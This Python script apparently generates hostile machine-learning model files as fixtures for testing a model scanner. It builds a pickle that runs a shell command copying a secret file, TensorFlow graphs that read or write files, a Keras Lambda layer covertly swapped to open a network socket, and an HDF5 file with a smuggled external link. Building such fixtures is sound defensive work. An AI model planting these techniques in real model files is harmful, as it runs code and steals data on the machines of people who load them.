"""Writes hostile models, as their authors would: `python hostile_models.py FOLDER SECRET MARK PORT`.

They read SECRET, write MARK, or connect to PORT of this machine. Needs TensorFlow.
"""

from __future__ import annotations

import pickle
import sys
import zipfile
from pathlib import Path

import h5py
import keras
import numpy as np
import tensorflow as tf


class Runs:
    """Runs a command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, (self.command,)


def saved_model(folder: Path, secret: str, mark: str) -> None:
    class Reads(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([1, 4], tf.float32, name="x")])
        def __call__(self, x):  # type: ignore[no-untyped-def]
            bytes_read = tf.io.decode_raw(tf.io.read_file(secret), tf.uint8)[:4]
            return {"y": x + tf.cast(bytes_read, tf.float32)}

    class Writes(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([1, 4], tf.float32, name="x")])
        def __call__(self, x):  # type: ignore[no-untyped-def]
            with tf.control_dependencies([tf.io.write_file(mark, "owned")]):
                return {"y": x * 2.0}

    for name, kind in (("reads", Reads), ("writes", Writes)):
        module = kind()
        tf.saved_model.save(module, str(folder / name), signatures=module.__call__)


def keras_files(folder: Path, port: str) -> None:
    x = keras.Input((4,), batch_size=1, name="x")
    code = f"lambda t: (__import__('socket').create_connection(('127.0.0.1', {port}), 2), t * 3)[1]"
    quiet = eval("lambda t: t * 3")  # noqa: S307
    layer = keras.layers.Lambda(quiet, output_shape=(4,), name="calls_home")
    model = keras.Model(x, layer(x))
    layer.function = eval(code)  # noqa: S307
    model.save(folder / "lambda.keras")

    keras.Model(x, keras.layers.Dense(3, name="dense", use_bias=False)(x)).save(folder / "linked.h5")
    with h5py.File(folder / "linked.h5", "r+") as file, h5py.File(folder.parent / "weights.h5", "w") as other:
        group = file["model_weights/dense"]
        path = next(f"{key}/kernel" if "kernel" in group[key] else key for key in group)
        while not isinstance(group[path], h5py.Dataset):
            path = f"{path}/{next(iter(group[path]))}"
        other["kernel"] = np.full((4, 3), 7, np.float32)
        del group[path]
        group[path] = h5py.ExternalLink(str(folder.parent / "weights.h5"), "/kernel")


def pickled(folder: Path, secret: str, mark: str) -> None:
    with zipfile.ZipFile(folder / "net.pt", "w") as archive:
        archive.writestr("net/data.pkl", pickle.dumps(Runs(f"cat {secret} > {mark}"), protocol=2))
        archive.writestr("net/byteorder", "little")
        archive.writestr("net/version", "3\n")


if __name__ == "__main__":
    place, secret, mark, port = sys.argv[1:]
    saved_model(Path(place), secret, mark)
    keras_files(Path(place), port)
    pickled(Path(place), secret, mark)
